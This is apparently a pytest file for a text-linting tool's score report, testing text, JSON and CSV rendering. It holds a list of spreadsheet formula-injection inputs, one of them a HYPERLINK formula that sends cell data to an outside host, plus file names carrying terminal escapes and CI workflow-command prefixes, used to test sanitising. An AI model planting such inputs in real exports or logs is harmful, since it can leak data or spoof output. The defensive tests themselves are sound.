"""The table of scores in its formats."""

from __future__ import annotations

import csv
import json
from io import StringIO

import pytest

from anplint.finding import Failure, Measure, NotRun, Scores, Taken
from anplint.report.scores import FORMATS, Row, Table, harmless, render, row, worst_first
from anplint.score import SCORE_NAMES, SCORE_VERSION
from tests.report.samples import article, finding

GOOD = Scores(88.0, 90.0, 60.2, 100.0, 99.0, 100.0)
BAD = Scores(
    31.4,
    40.0,
    20.0,
    None,
    30.0,
    25.0,
    taken=(
        Taken("integrity", "leftover.chat", 75.0, "3 findings"),
        Taken("clarity", "long-sentences", 60.0, "40 % of the words"),
        Taken("clarity", "hard-words", 0.04, "1 % of the words"),
    ),
    readability=(Measure("words", 120, 119), Measure("letters", 500, 500), Measure("flesch_reading_ease", 61.25, 60.0), Measure("smog", 9.0, None)),
)  # fmt: skip


def made(path: str, scores: Scores, title: str = "A title", **more: str) -> Row:
    whole = {"record": "", "url": "", **more}
    return Row(path, whole["record"], whole["url"], title, "en", 1234, (1, 0, 2), scores)


ROWS = (made("b.md", BAD), made("a.md", GOOD, "Hüllen", url="https://example.org/a"))


def rendered(name: str, table: Table, **how: bool) -> str:
    return "".join(render(name, table, **how))


def test_a_row_counts_findings_by_class() -> None:
    found = finding()._replace(rule_class="style")
    made_of = row(article("a.md", found, found)._replace(scores=GOOD, url="u"))
    assert made_of == Row("a.md", "", "u", "A title", "en", 100, (0, 0, 2), GOOD)
    assert row(article("a.md")).scores == Scores()


def test_the_worst_come_first_and_the_unknown_last() -> None:
    rows = [
        made("a", Scores()),
        made("c", GOOD),
        made("b", GOOD),
        made("d", BAD),
        made("e", Scores(quality=0.0)),
    ]
    assert [one.path for one in worst_first(rows)] == ["e", "d", "b", "c", "a"]


def test_text() -> None:
    rows = [one._replace(scores=one.scores._replace(readability=())) for one in ROWS]
    assert rendered("text", Table(rows)).splitlines() == [
        "quality  clarity  depth  fresh  original  integrity  words  findings  article",
        "     31       40     20      -        30         25  1,234         3  b.md  “A title”",
        "     88       90     60    100        99        100  1,234         3  a.md  “Hüllen”",
        "quality 31, 88, 88 (lowest, median, highest) in 2 articles; formula 1",
    ]


def test_text_with_what_was_asked_for() -> None:
    text = rendered("text", Table(ROWS[:1], explain=True))
    assert "    integrity 25.0\n       -75.0  leftover.chat (3 findings)\n" in text
    assert "       -60.0  long-sentences (40 % of the words)\n" in text
    assert "hard-words" not in text
    assert "      words                      120       119\n" in text
    assert "letters" not in text
    assert "      Flesch reading ease       61.2      60.0\n" in text
    assert "      SMOG                       9.0         -" in text


def test_a_terminal_gets_colours_and_the_same_figures() -> None:
    drawn = rendered("text", Table(ROWS), terminal=True, color=True)
    assert "\x1b[31m" in drawn
    plain = rendered("text", Table(ROWS), terminal=True)
    assert "\x1b" not in plain
    assert [line.split() for line in plain.splitlines()] == [
        line.split() for line in rendered("text", Table(ROWS)).splitlines()
    ]


@pytest.mark.parametrize("table", [Table(()), Table([made("a.md", Scores())])])
def test_nothing_to_tell(table: Table) -> None:
    for terminal in (True, False):
        assert "no quality to tell" in rendered("text", table, terminal=terminal)
    assert json.loads(rendered("json", table))["articles"] == [
        {
            "path": "a.md",
            "title": "A title",
            "language": "en",
            "words": 1234,
            "scores": {},
            "findings": {"integrity": 1, "quality": 0, "style": 2},
        }
        for _ in table.rows
    ]


def test_json() -> None:
    table = Table(
        ROWS,
        [Failure("c.md", "cannot be read")],
        [NotRun("a.b", "why")],
        "0" * 16,
        explain=True,
        textstat="0.7",
    )
    text = rendered("json", table)
    data = json.loads(text)
    assert text.isascii()
    assert data["score_version"] == SCORE_VERSION
    assert data["textstat"] == "0.7"
    assert data["config_digest"] == "0" * 16
    assert data["errors"] == [{"path": "c.md", "message": "cannot be read"}]
    assert data["not_run"] == [{"rule": "a.b", "reason": "why"}]
    bad, good = data["articles"]
    assert "freshness" not in bad["scores"]
    assert good["scores"] == dict(zip(SCORE_NAMES, GOOD[:6], strict=True))
    assert good["url"] == "https://example.org/a"
    assert bad["taken"][0] == {
        "score": "integrity",
        "what": "leftover.chat",
        "points": 75.0,
        "detail": "3 findings",
    }
    assert bad["readability"]["flesch_reading_ease"] == {"anplint": 61.25, "textstat": 60.0}
    assert bad["readability"]["smog"] == {"anplint": 9.0, "textstat": None}
    assert list(bad["readability"]) == ["words", "flesch_reading_ease", "smog"]


def test_csv() -> None:
    first, bad, good = csv.DictReader(StringIO(rendered("csv", Table(ROWS, explain=True)))), None, None
    bad, good = first
    assert list(bad)[:6] == ["url", "path", "record", "title", "language", "words"]
    assert (bad["quality"], bad["freshness"], bad["integrity_findings"], bad["style_findings"]) == (
        "31.4",
        "",
        "1",
        "2",
    )
    assert (good["url"], good["title"], good["score_version"]) == (
        "https://example.org/a",
        "Hüllen",
        str(SCORE_VERSION),
    )
    assert bad["taken"].startswith("integrity -75.0 leftover.chat; ")
    assert (bad["flesch_reading_ease"], bad["flesch_reading_ease_textstat"], bad["smog_textstat"]) == (
        "61.25",
        "60.0",
        "",
    )
    assert good["smog"] == ""


EVIL = [
    '=HYPERLINK("https://example.org?"&A1)',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    " =1",
    "\n=1",
    "＝1",
    "\x1b=1",
]


@pytest.mark.parametrize("text", EVIL)
def test_no_cell_is_a_formula(text: str) -> None:
    table = Table([made(text, GOOD, text, record=text, url=text)])
    (cells,) = list(csv.DictReader(StringIO(rendered("csv", table))))
    for name in ("title", "path", "record", "url"):
        assert cells[name].startswith("'")


@pytest.mark.parametrize("text", ["a title", "2 = 1 + 1", "", "“=1”", "'=1"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_quotes_commas_and_breaks_are_quoted() -> None:
    table = Table([made("a,b.md", GOOD, 'The "hull",\nand the mast')])
    (cells,) = list(csv.DictReader(StringIO(rendered("csv", table))))
    assert (cells["path"], cells["title"]) == ("a,b.md", 'The "hull", and the mast')


@pytest.mark.parametrize("name", FORMATS)
def test_names_are_cleaned(name: str) -> None:
    text = rendered(name, Table([made("::error::\udcff\x1b[2J.md", GOOD, "\u202ea\nb")]))
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert not any(line.startswith("::") for line in text.splitlines())
    text.encode("utf-8")
